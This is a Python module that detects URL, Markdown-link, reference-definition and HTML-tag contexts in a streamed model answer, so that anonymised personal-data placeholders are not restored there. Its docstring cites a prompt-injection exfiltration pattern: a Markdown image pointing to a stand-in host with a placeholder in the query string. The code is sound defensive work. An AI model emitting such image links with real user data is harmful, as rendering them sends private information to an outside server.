"""Where nothing is restored: places from which a renderer may fetch or send what stands there.

A value inside a URL leaves the building as soon as something loads the link, so a model that was
talked into writing ``![](https://host/?q=<PERSON_1>)`` must not have it filled. The answer follows
from the left context alone, by small machines that read every character once; so it is the same
however a stream was split. They err towards "closed": a placeholder that stays is a nuisance, one
that is sent away is a breach. A blank line ends every place.
"""

from __future__ import annotations

import re
from enum import Enum, auto

_TOKEN = re.compile(r"[\w-]+|.", re.DOTALL)
_SCHEME = re.compile(r"(?:^|[\W_])(?:mailto|data|javascript|vbscript|blob):\Z", re.IGNORECASE)
_WWW = re.compile(r"(?:^|[\W_])www\.\Z", re.IGNORECASE)
_TAIL = 16  # longer than any scheme above
_TAG_NAME = re.compile(r"[A-Za-z][A-Za-z0-9-]*", re.ASCII)
_TAG_NAME_ON = re.compile(r"[A-Za-z0-9-]+", re.ASCII)
_LINE_PREFIX = re.compile(r"[0-9-]+", re.ASCII)  # list markers; quote marks come one by one


class LeftContext:
    """What stands to the left of the next character. Feed all of an answer, in order."""

    def __init__(self) -> None:
        self._reset()

    def _reset(self) -> None:
        self._blank = False  # only white space since the last line break
        self._url = _Url()
        self._target = _Target()
        self._definition = _Definition()
        self._tag = _Tag()

    def closed(self) -> bool:
        """Whether nothing may be restored here.

        True inside a URL (up to the next white space), the target of a Markdown link or image, a
        link reference definition, and an HTML tag with its attributes.
        """
        return (
            self._url.inside
            or self._target.depth > 0
            or self._definition.inside
            or self._tag.inside
        )

    def feed(self, text: str) -> None:
        for match in _TOKEN.finditer(text):
            piece = match.group()
            if piece == "\n" and self._blank:
                self._reset()
            self._url.feed(piece)
            self._target.feed(piece)
            self._definition.feed(piece)
            self._tag.feed(piece)
            self._blank = piece == "\n" or (self._blank and piece.isspace())


class _Url:
    """``scheme://``, addresses without a scheme (``//host``, ``www.``), ``mailto:`` and such."""

    def __init__(self) -> None:
        self.inside = False
        self._tail = ""

    def feed(self, piece: str) -> None:
        if piece.isspace():
            self.inside, self._tail = False, ""
            return
        tail = self._tail = (self._tail + piece)[-_TAIL:]
        if piece == "/":
            self.inside |= tail.endswith("//")
        elif piece == ":":
            self.inside |= _SCHEME.search(tail) is not None
        elif piece == ".":
            self.inside |= _WWW.search(tail) is not None


class _Target:
    """``](target)``, parentheses inside it counted."""

    def __init__(self) -> None:
        self.depth = 0
        self._after_bracket = False

    def feed(self, piece: str) -> None:
        if piece == "(" and (self.depth or self._after_bracket):
            self.depth += 1
        elif piece == ")" and self.depth:
            self.depth -= 1
        self._after_bracket = piece == "]"


class _Definition:
    """``[label]: target`` at the beginning of a line; the target may stand on the next line."""

    class _At(Enum):
        START = auto()
        LABEL = auto()
        LABEL_END = auto()
        EMPTY_TARGET = auto()
        TARGET = auto()
        ELSEWHERE = auto()

    def __init__(self) -> None:
        self._at = self._At.START

    @property
    def inside(self) -> bool:
        return self._at in (self._At.EMPTY_TARGET, self._At.TARGET)

    def feed(self, piece: str) -> None:
        at = self._At
        if piece == "\n":
            if self._at not in (at.EMPTY_TARGET, at.LABEL):
                self._at = at.START
        elif self._at is at.START:
            if piece == "[":
                self._at = at.LABEL
            elif not (piece.isspace() or piece in ">*+." or _LINE_PREFIX.fullmatch(piece)):
                self._at = at.ELSEWHERE
        elif self._at is at.LABEL:
            if piece == "]":
                self._at = at.LABEL_END
        elif self._at is at.LABEL_END:
            self._at = at.EMPTY_TARGET if piece == ":" else at.ELSEWHERE
        elif self._at is at.EMPTY_TARGET and not piece.isspace():
            self._at = at.TARGET


class _Tag:
    """``<name attribute="value">``; quotes count only after an equals sign."""

    class _At(Enum):
        OUTSIDE = auto()
        OPENED = auto()
        NAME = auto()
        ATTRIBUTES = auto()
        EQUALS = auto()
        QUOTED = auto()

    def __init__(self) -> None:
        self._at = self._At.OUTSIDE
        self._quote = ""

    @property
    def inside(self) -> bool:
        return self._at in (self._At.ATTRIBUTES, self._At.EQUALS, self._At.QUOTED)

    def feed(self, piece: str) -> None:
        at = self._At
        if self._at is at.QUOTED:
            if piece == self._quote:
                self._at = at.ATTRIBUTES
        elif self.inside:
            self._attributes(piece)
        elif piece == "<":
            self._at = at.OPENED
        elif self._at is at.OPENED:
            if piece not in "/!?":
                self._at = at.NAME if _TAG_NAME.fullmatch(piece) else at.OUTSIDE
        elif self._at is at.NAME and not (piece == ":" or _TAG_NAME_ON.fullmatch(piece)):
            self._at = at.ATTRIBUTES if piece.isspace() or piece == "/" else at.OUTSIDE

    def _attributes(self, piece: str) -> None:
        at = self._At
        if piece == ">":
            self._at = at.OUTSIDE
        elif piece == "=":
            self._at = at.EQUALS
        elif self._at is at.EQUALS and piece in ("'", '"'):
            self._at, self._quote = at.QUOTED, piece
        elif not piece.isspace():
            self._at = at.ATTRIBUTES
